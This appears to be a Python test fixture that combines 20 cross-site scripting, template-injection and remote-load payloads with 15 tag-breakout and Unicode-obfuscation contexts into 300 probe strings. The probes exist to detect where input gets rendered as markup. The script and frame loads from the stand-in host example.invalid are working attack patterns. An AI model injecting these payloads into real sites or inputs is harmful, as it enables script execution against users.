"""300 strings that would run a script or fetch something, were they ever taken for markup or code.

20 payloads in 15 contexts each. A payload that runs calls `__hit()` or asks for example.invalid.
"""

PAYLOADS = (
    "<script>__hit()</script>",
    "<script src=//example.invalid/x.js></script>",
    "<img src=x onerror=__hit()>",
    "<img src=https://example.invalid/pixel.gif>",
    "<svg onload=__hit()>",
    "<svg><animate onbegin=__hit() attributeName=x dur=1s>",
    "<iframe srcdoc='<script>parent.__hit()</script>'></iframe>",
    "<iframe src=https://example.invalid/></iframe>",
    "<object data=https://example.invalid/x.swf></object>",
    "<link rel=stylesheet href=https://example.invalid/x.css>",
    "<style>@import url(https://example.invalid/y.css);</style>",
    "<meta http-equiv=refresh content='0;url=https://example.invalid/'>",
    "<base href=https://example.invalid/>",
    "<a href='javascript:__hit()' autofocus onfocus=__hit()>x</a>",
    "<details open ontoggle=__hit()>x</details>",
    "<video><source onerror=__hit()></video>",
    "<form action=https://example.invalid/><input autofocus onfocus=__hit()></form>",
    "<math><mtext><table><mglyph><style><img src=x onerror=__hit()>",
    "![x](https://example.invalid/z.png) [y](javascript:__hit())",
    "${__hit()}{{constructor.constructor('__hit()')()}}",
)
CONTEXTS = (
    "{}",
    'quote " closed {}',
    "quote ' closed {}",
    "--> {}",
    "]]> {}",
    "</textarea>{}",
    "</title>{}",
    "</script>{}",
    "</style>{}",
    '"><b x="{}',
    "\u202e{}\u202c",
    "zero\u200bwidth\u2060 {} \ufeff",
    "javascript:/*--></title></style></textarea></script>*/{}",
    "&lt;b&gt; &#60;i&#62; %3Cscript%3E {}",
    "\x07\x1b[31m {} \ud83c\udfee".encode("utf-16", "surrogatepass").decode("utf-16"),
)
STRINGS = tuple(context.format(payload) for payload in PAYLOADS for context in CONTEXTS)
"""300, no two alike."""
